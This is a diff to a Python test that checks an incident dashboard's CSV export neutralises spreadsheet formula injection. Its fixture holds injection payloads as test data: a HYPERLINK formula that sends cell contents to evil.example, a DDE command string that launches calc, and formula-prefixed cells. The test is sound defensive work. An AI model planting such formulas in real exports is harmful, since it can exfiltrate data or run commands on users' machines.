@@ -26,9 +26,10 @@ from tests.downloads import capture, fetch
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE_NAME = "=cmd|'/c calc'!a0"
+QUOTED = FORMULA.replace('"', '""')
 TEMPLATE = (
     "id,occurred_at,country,incident_types,lat,lon,description,place_name\n"
-    f'f1,2020-03-05,EGY,touching,30.0444,31.2357,"{FORMULA.replace(chr(34), 2 * chr(34))}",@SUM(1)\n'
+    f'f1,2020-03-05,EGY,touching,30.0444,31.2357,"{QUOTED}",@SUM(1)\n'
     "f2,2020-03-06,EGY,comments,30.0450,31.2360,+1+1,-2+3\n"
     "f3,2020-03-07,EGY,comments,30.0452,31.2362,plain text,Tahrir\n"
 )
@@ -83,9 +84,7 @@ def test_analyst_csv_from_the_incident_page_is_neutralised(formula_store: Path) 
         with capture() as files:
             at = signed_in("ana", "incidents", geo="EGY")
             assert not at.exception
-            (button,) = [
-                b for b in at.get("download_button") if "with text" in b.proto.label
-            ]
+            (button,) = [b for b in at.get("download_button") if "with text" in b.proto.label]
             rows = list(csv.reader(io.StringIO(fetch(button, files).decode("utf-8"))))
     finally:
         os.environ["SDG16_DB"] = before
